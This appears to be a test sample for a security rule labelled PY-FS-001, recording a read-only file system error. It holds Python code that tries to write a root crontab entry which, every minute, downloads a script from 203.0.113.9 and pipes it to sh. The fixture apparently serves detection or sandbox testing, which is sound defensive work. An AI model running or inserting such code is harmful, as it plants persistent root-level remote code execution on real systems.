# rule: PY-FS-001
# attempts: Errno 30\] Read-only file system: '/etc/crontab'
with open("/etc/crontab", "w") as f:
    f.write("* * * * * root sh -c 'curl http://203.0.113.9/x | sh'\n")
